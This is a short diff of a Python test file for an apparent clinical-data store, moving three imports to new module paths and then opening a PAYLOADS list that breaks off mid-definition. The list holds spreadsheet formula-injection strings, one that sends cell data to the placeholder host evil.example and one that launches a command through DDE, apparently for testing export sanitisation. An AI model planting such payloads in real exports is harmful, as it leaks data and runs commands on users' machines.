@@ -22,9 +22,9 @@ from fastapi import FastAPI
 from fastapi.testclient import TestClient
 
 from pustula.store import Store, export_bundle, import_bundle
-from pustula.store.monitor_services import raise_query
-from pustula.store.services import add_subject_record
-from pustula.store.users import issue_api_token
+from pustula.store.accounts.users import issue_api_token
+from pustula.store.services.clinical import add_subject_record
+from pustula.store.services.monitoring import raise_query
 from tests.store.helpers import dump_tables
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0",
